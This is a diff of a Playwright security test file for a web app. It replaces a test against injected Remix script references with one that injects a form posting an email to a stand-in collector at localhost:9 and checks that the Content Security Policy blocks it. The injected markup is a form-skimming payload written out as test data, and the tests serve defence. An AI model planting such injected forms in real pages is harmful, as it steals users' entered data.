@@ -42,22 +42,35 @@ test("no script that got into a page runs, however it got there", async ({ page,
   }
 });
 
-test("an injected element cannot name a script for Remix", async ({ page, complaints }) => {
-  const evil = "http://localhost:9/injected.js";
-  const parked = JSON.stringify({ context: {}, data: "", routes: [evil], preloads: [evil] });
-  const asked: string[] = [];
-  page.on("request", (request) => asked.push(request.url()));
-  await page.route("/contact", async (route) => {
-    const answer = await route.fetch();
-    const injected = `<script type="application/json" id="parked">${parked}</script>`;
-    const body = (await answer.text()).replace("<main", `${injected}<main`);
-    await route.fulfill({ response: answer, body });
+test("a form that got into a page sends nothing to another site, taken over or not", async ({
+  page,
+  complaints,
+}) => {
+  const evil = "http://localhost:9/collect";
+  let collected = 0;
+  await page.route(evil, (route) => {
+    collected += 1;
+    return route.fulfill({ body: "thanks" });
   });
-  await page.goto("/contact");
-  await page.locator("#lead-contact [name=name]").focus();
-  await expect.poll(() => complaints.join()).toMatch(/Failed to resolve module specifier/);
-  expect(asked).not.toContain(evil);
-  complaints.length = 0;
+  const state = JSON.stringify({ form: "newsletter", page: evil });
+  const form = `<form id="injected" method="post" action="${evil}"><input name="email"></form>`;
+  for (const injected of [form, `<div data-form='${state}'>${form}</div>`]) {
+    await page.route("/legal", async (route) => {
+      const answer = await route.fetch();
+      const body = (await answer.text()).replace("<main", `${injected}<main`);
+      await route.fulfill({ response: answer, body });
+    });
+    await page.goto("/legal");
+    const isTakenOver = injected !== form;
+    await page.locator("#injected input").focus();
+    const email = page.locator(isTakenOver ? "body > div input[name=email]" : "#injected input");
+    if (isTakenOver) await expect(page.locator("#injected")).toHaveCount(0);
+    await email.fill("ann@example.org");
+    await email.press("Enter");
+    await expect.poll(() => complaints.join()).toMatch(/Content Security Policy/);
+    expect(collected).toBe(0);
+    complaints.length = 0;
+  }
 });
 
 test("a string cannot become markup or code", async ({ page, complaints }) => {
